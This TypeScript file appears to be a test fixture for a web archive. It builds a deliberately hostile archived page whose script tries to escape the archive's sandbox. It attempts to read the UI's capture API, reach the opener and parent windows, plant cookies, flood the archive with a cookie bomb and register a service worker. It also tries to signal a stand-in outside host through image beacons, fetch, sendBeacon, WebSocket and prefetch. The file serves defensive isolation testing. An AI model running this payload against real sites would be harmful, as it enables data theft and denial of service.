// An archived page that tries everything it can think of against the archive that shows it.

/** What the page managed, as it writes it into `#result`. */
export interface HostileResult {
  readonly attempts: Readonly<Record<string, string>>;
}

/** The page; `uiOrigin` is what it attacks, `outside` a host it tries to tell. */
export function hostilePage(uiOrigin: string, outside: string): string {
  return `<!doctype html><title>hostile</title><h1>hostile</h1>
<pre id="result"></pre>
<script>
const ui = ${JSON.stringify(uiOrigin)}, outside = ${JSON.stringify(outside)};
const attempts = {};
async function attempt(name, act) {
  try { attempts[name] = String(await act()); } catch (error) { attempts[name] = "refused " + error.name; }
}
const loads = (element, attribute, url) => new Promise((resolve) => {
  element.onload = () => resolve("loaded");
  element.onerror = () => resolve("refused");
  element[attribute] = url;
  document.body.append(element);
});
(async () => {
  await attempt("script-runs", () => 1 + 1);
  await attempt("read-api", async () => (await fetch(ui + "/api/captures")).text());
  await attempt("read-api-blind", async () => (await fetch(ui + "/api/captures", { mode: "no-cors" })).type);
  await attempt("api-as-script", () => loads(document.createElement("script"), "src", ui + "/api/captures"));
  await attempt("opener", () => window.opener === null ? "none" : window.opener.location.href);
  await attempt("parent", () => window.parent === window ? "none" : window.parent.document.title);
  await attempt("popup", () => window.open(ui) === null ? "refused" : "opened");
  await attempt("document-domain", () => { document.domain = document.domain; return "set"; });
  await attempt("cookie", () => { document.cookie = "planted=1; path=/; max-age=999"; return document.cookie; });
  await attempt("cookie-bomb", () => {
    for (let i = 0; i < 100; i++) document.cookie = "bomb" + i + "=" + "x".repeat(3900) + "; path=/";
    return "thrown";
  });
  await attempt("storage", () => { localStorage.setItem("planted", "1"); return localStorage.getItem("planted"); });
  await attempt("service-worker", async () => (await navigator.serviceWorker.register("sw.js")).scope);
  await attempt("image-beacon", () => loads(new Image(), "src", outside + "/beacon.png"));
  await attempt("fetch-outside", async () => (await fetch(outside + "/fetch", { mode: "no-cors" })).type);
  await attempt("send-beacon", () => navigator.sendBeacon(outside + "/send", "x") && "queued");
  await attempt("web-socket", () => new Promise((resolve) => {
    const socket = new WebSocket(outside.replace("http", "ws") + "/socket");
    socket.onopen = () => resolve("open");
    socket.onerror = () => resolve("refused");
  }));
  await attempt("hint", () => {
    const link = document.createElement("link");
    link.rel = "prefetch"; link.href = outside + "/prefetch";
    document.head.append(link);
    return "added";
  });
  document.getElementById("result").textContent = JSON.stringify({ attempts });
  document.title = "done";
})();
</script>`;
}
